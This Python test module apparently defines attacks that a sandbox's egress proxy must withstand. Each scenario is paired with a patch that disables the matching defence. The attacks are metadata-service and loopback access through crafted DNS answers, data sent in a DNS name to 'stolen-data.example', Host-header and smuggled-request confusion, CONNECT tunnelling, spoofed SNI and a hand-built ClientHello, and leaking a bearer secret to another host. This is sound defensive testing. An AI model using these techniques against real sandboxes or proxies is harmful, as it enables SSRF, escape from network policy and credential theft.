"""Attacks on egress: a sandbox that may reach one host reaches for others, and for the secrets that stay outside."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Callable, Mapping, Sequence
from contextlib import AsyncExitStack
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from outer import Act, Attack, Defence, Edit, Scene, Swap
from upstreams import host
from woodshed.model import EnvironmentSpec, SandboxPolicy
from woodshed.sandbox.egress import upstream

_EGRESS = "woodshed.sandbox.egress."
KEY = "the-key-of-the-company"

UNKNOWN_ADDRESS: Defence = (Swap(_EGRESS + "names:Names", "name", lambda self, address: "allowed.test"),)
JUDGED: Defence = (Swap(_EGRESS + "upstream", "why_refused", lambda address, private=False: None),)
OWN: Defence = (Swap(_EGRESS + "upstream", "is_own", lambda address, port: False),)
KNOWN: Defence = (Swap(_EGRESS + "rules:Rules", "knows", lambda self, name: True),)
GRANTED: Defence = (Swap(_EGRESS + "rules:Rules", "find",
                         lambda self, name, port: next(iter(self._exact.values()))[0]),)
REQUESTS: Defence = (Swap(_EGRESS + "relay:Relay", "_judge", lambda self, request: None),)
CONNECT: Defence = (Edit(_EGRESS + "http", '    if method == "CONNECT":\n', "    if False:\n"),)
TARGETS: Defence = (Edit(_EGRESS + "http", '    if not target.startswith("/") and (target, method)',
                         "    if False and (target, method)"),)
HELLOS: Defence = (Swap(_EGRESS + "admission:Admission", "_amiss", lambda self, hello: ""),)
OF_RULE: Defence = (Swap(_EGRESS + "inject", "of_rule", lambda rule, known: tuple(known.values())),)
BLOT: Defence = (Swap(_EGRESS + "inject:Blot", "pass_on", lambda self, data: data),)

CONNECTS = """
with socket.create_connection({address}, 5) as s:
    s.settimeout(5)
    hit(s.recv(100).decode().index(T["word"]) + 1)
"""
SAYS = """
with socket.create_connection(("allowed.test", {port}), 5) as s:
    s.settimeout(5)
    s.sendall({said})
    while piece := s.recv(65536):
        sys.stderr.write(repr(piece))
"""
TELLS_A_RESOLVER = """
try:
    with socket.create_connection(("stolen-data.example", 80), 5) as s:
        s.settimeout(2)
        s.recv(10)
except OSError:
    pass
"""
OTHER_SNI = """
import ssl
context = ssl.create_default_context()
with socket.create_connection(("allowed.test", 443), 5) as s:
    context.wrap_socket(s, server_hostname="other.test")
"""
# RFC 8446, section 4.1.2: the least ClientHello, with a server name and an encrypted ClientHello (0xfe0d).
ECH = """
name = b"allowed.test"
sni = b"\\0" + struct.pack("!H", len(name)) + name
extensions = struct.pack("!HHH", 0, len(sni) + 2, len(sni)) + sni + struct.pack("!HH", 0xfe0d, 10) + b"inner-name"
extensions = struct.pack("!H", len(extensions)) + extensions
body = b"\\3\\3" + bytes(32) + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0" + extensions
hello = b"\\1" + len(body).to_bytes(3, "big") + body
with socket.create_connection(("allowed.test", 443), 5) as s:
    s.settimeout(5)
    s.sendall(b"\\x16\\3\\1" + struct.pack("!H", len(hello)) + hello)
    s.recv(100)
"""
ASKS = """
import urllib.request
ask = urllib.request.Request({url}, headers={{"Authorization": "Bearer " + os.environ["KEY"]}})
answer = urllib.request.urlopen(ask, timeout=5).read()
hit(b"{key}" in answer and "the secret")
"""


async def _box(scene: Scene, script: str, *rules: Mapping[str, Any]) -> str | None:
    policy = SandboxPolicy.parse({"network": {"rules": list(rules)}})
    box = await scene.engine.create(EnvironmentSpec(), policy)
    scene.boxes.append(box)
    return await scene.run_in(box, script)


def _planted(script: str, *, resolves: Sequence[str] | None = None) -> Act:
    """The allowed host is a planted service that says the word first; by its address, or where its name leads."""

    async def act(scene: Scene) -> str | None:
        rule = {"host": "allowed.test", "ports": [80], "raw": True}
        with pytest.MonkeyPatch.context() as patch:
            if resolves is None:
                rule["address"] = "203.0.113.7:80"
            else:
                patch.setattr(upstream, "_addresses", lambda name: list(resolves))
            return await _box(scene, script, rule)

    return act


async def _asked_outside(scene: Scene) -> str | None:
    """A name that is not allowed, with data in it, reaches a resolver."""
    asked: list[str] = []

    def resolve(name: str) -> list[str]:
        asked.append(name)
        return ["203.0.113.7"]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(upstream, "_addresses", resolve)
        await _box(scene, TELLS_A_RESOLVER, {"host": "allowed.test", "ports": [80], "raw": True})
    return next((name for name in asked if "stolen" in name), None)


def _heard(script: str, word: bytes) -> Act:
    """The allowed host hears ``word``, which is for another."""

    async def act(scene: Scene) -> str | None:
        heard = bytearray()

        async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            while word not in heard and (data := await reader.read(65536)):
                heard.extend(data)

        async with host(serve=listen) as allowed:
            await _box(scene, script, {"host": "allowed.test", "address": allowed.address})
            return word.decode() if word in heard else None

    return act


def _kept(script: str, *, rules: Callable[..., Sequence[Mapping[str, Any]]], answer: bool = False) -> Act:
    """The secret of a.test arrives at b.test, or with ``answer`` in the sandbox."""

    async def act(scene: Scene) -> str | None:
        async with AsyncExitStack() as stack:
            patch = stack.enter_context(pytest.MonkeyPatch.context())
            patch.setitem(os.environ, "ATTACKED_KEY", KEY)
            folder = Path(stack.enter_context(TemporaryDirectory()))
            (folder / "a").mkdir()
            (folder / "b").mkdir()
            one = await stack.enter_async_context(host(name="a.test", folder=folder / "a", body=lambda head: head))
            two = await stack.enter_async_context(host(name="b.test", folder=folder / "b"))
            plain = await stack.enter_async_context(host())
            got = await _box(scene, script, *rules(one, two, plain))
            heard = [head for other in (two, plain) for head in other.heads if KEY.encode() in head]
            return got if answer else "heard" if heard else None

    return act


_SECRET = {"secrets": [{"name": "KEY", "env": "ATTACKED_KEY"}]}


def _two(one: Any, two: Any, plain: Any) -> Sequence[Mapping[str, Any]]:
    return ({"host": "a.test", "address": one.address, "ca_file": one.ca_file, "upstream_tls": True, **_SECRET},
            {"host": "b.test", "address": two.address, "ca_file": two.ca_file, "upstream_tls": True})


def _clear(one: Any, two: Any, plain: Any) -> Sequence[Mapping[str, Any]]:
    return ({"host": "a.test", "address": plain.address, "intercept": True, **_SECRET},)


def _asks(url: str) -> str:
    return ASKS.format(url=repr(url), key=KEY)


def _says(said: str, port: int = 80) -> str:
    return SAYS.format(said=said, port=port)


_ALLOWED = CONNECTS.format(address='("allowed.test", 80)')
ATTACKS = (
    # 11: addresses
    Attack(11, "with a network: an address that no name led to", defences=(UNKNOWN_ADDRESS,),
           act=_planted(CONNECTS.format(address='(T["addresses"][1], 80)'))),
    Attack(11, "with a network: the metadata service by its address", defences=(UNKNOWN_ADDRESS,),
           act=_planted(CONNECTS.format(address='(T["addresses"][0], 80)'))),
    Attack(11, "an allowed name that leads to the metadata service", defences=(JUDGED, OWN),
           act=_planted(_ALLOWED, resolves=["169.254.169.254"])),
    Attack(11, "an allowed name that leads to this machine's loopback", defences=(JUDGED, OWN),
           act=_planted(_ALLOWED, resolves=["127.0.0.1"])),
    Attack(11, "an allowed name that leads to IPv4 in IPv6", defences=(JUDGED, OWN), needs=("IPv6",),
           act=_planted(_ALLOWED, resolves=["::ffff:203.0.113.7"])),
    Attack(11, "an allowed name that leads to a machine by IPv6", defences=(JUDGED, OWN), needs=("IPv6",),
           act=_planted(_ALLOWED, resolves=["2001:db8::7"])),
    # 12: names
    Attack(12, "data in a name for the proxy's own resolver", defences=(KNOWN, GRANTED), act=_asked_outside),
    # 13: confusing the proxy
    Attack(13, "a Host that is another's", defences=(REQUESTS,), act=_heard(
        _says(r'b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"'), b"other.test")),
    Attack(13, "a second request for another's Host", defences=(REQUESTS,), act=_heard(
        _says(r'b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"'),
        b"other.test")),
    Attack(13, "a proxy's target", defences=(TARGETS,), act=_heard(
        _says(r'b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"'), b"other.test")),
    Attack(13, "CONNECT", defences=(CONNECT, TARGETS), act=_heard(
        _says(r'b"CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"'), b"other.test")),
    Attack(13, "a server name that is another's", defences=(HELLOS,), act=_heard(OTHER_SNI, b"other.test")),
    Attack(13, "an encrypted ClientHello", defences=(HELLOS,), act=_heard(ECH, b"inner-name")),
    Attack(13, "a secret for another host", defences=(OF_RULE,), act=_kept(_asks("http://b.test/"), rules=_two)),
    Attack(13, "a secret in an answer", defences=(BLOT,), act=_kept(_asks("http://a.test/"), rules=_two, answer=True)),
    Attack(13, "a secret in the clear", defences=(REQUESTS,), act=_kept(_asks("http://a.test/"), rules=_clear)),
)
